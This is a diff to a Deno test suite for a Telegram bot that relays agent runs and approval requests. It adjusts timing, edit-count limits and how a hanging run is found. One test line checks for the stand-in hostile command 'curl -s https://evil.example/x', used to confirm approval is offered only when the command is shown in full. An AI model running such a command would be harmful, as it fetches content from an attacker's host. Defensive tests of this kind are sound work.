@@ -4,7 +4,7 @@ import { REPOSITORY } from "../support/harness.ts";
 import { denoDir } from "../support/harness_guard.ts";
 import { eventually } from "../support/harness_wait.ts";
 import { ALLOWED, held, pending } from "../support/hook_process.ts";
-import { listening, messageWith, telegramHome } from "../support/telegram_home.ts";
+import { listening, messageWith, numberKept, telegramHome } from "../support/telegram_home.ts";
 import { turnOf, untilTurn } from "../support/turn_home.ts";
 
 Deno.test("V4 A4 hostile text is shown, secrets are masked, nothing is markup, and no link is opened", async () => {
@@ -69,6 +69,7 @@ Deno.test("V4 A4 what only Telegram's own mask hides, and a request that only it
   const message = await messageWith(bot, "make test");
   const isShown = message.text.includes("curl -s https://evil.example/x");
   assertEquals(message.buttons.some(({ text }) => text === "Approve"), isShown, message.text);
+  await numberKept(home, message); // until then a typed yes is for what has not arrived
   bot.says(`/approve ${hidden.id} yes`);
   if (!isShown) await messageWith(bot, "was not shown here in whole");
   bot.says("/approve s3 yes");
@@ -117,6 +118,7 @@ Deno.test("V4 /run begins a turn, tells it in one message, and it shows in every
   await home.start();
   await listening(bot);
   await using client = await home.connect({ token: true });
+  const begun = performance.now();
   bot.says("/run mine slow 300; say the end");
   const message = await messageWith(bot, "mine: ");
   const { turns: [turn] } = await eventually(
@@ -131,7 +133,9 @@ Deno.test("V4 /run begins a turn, tells it in one message, and it shows in every
   await eventually(() => message.text.startsWith("● mine: running"), 20_000, "the running turn");
   await untilTurn(client, turn?.id ?? "", ({ status }) => status === "finished", "the end");
   await eventually(() => /^✓ mine: finished\n\n[\s\S]*the end$/.test(message.text), 10_000, "its end in the message");
-  assert(message.edits <= 6, `${message.edits} edits of 6 s`);
+  // One each 3 s, and those of its beginning and its end.
+  const secs = (performance.now() - begun) / 1000;
+  assert(message.edits <= 2 + secs / 3, `${message.edits} edits in ${secs} s`);
   assertMatch((await home.cli(["context"])).stdout, /slow 300; say the end/);
 
   bot.says("/run mine run touch by-turn");
@@ -140,11 +144,14 @@ Deno.test("V4 /run begins a turn, tells it in one message, and it shows in every
   await eventually(() => bot.messages.some(({ text }) => /^✓ mine: finished\n\ndone$/.test(text)), 20_000, "done");
 
   bot.says("/run mine hang");
-  await eventually(() => bot.messages.at(-1)?.text.startsWith("● mine: running"), 20_000, "one that hangs");
-  const hung = bot.messages.at(-1);
+  const hung = await eventually(
+    () => bot.messages.find(({ text }) => text.startsWith("● mine: running")),
+    20_000,
+    "one that hangs",
+  );
   await home.kill();
   await home.start();
-  await eventually(() => /^(?:✖|–|✓) /.test(hung?.text ?? ""), 30_000, "what became of it");
+  await eventually(() => /^(?:✖|–|✓) /.test(hung.text), 30_000, "what became of it");
   await using again = await home.connect({ token: true });
   assertEquals((await turnOf(again, turn?.id ?? "")).status, "finished");
 });
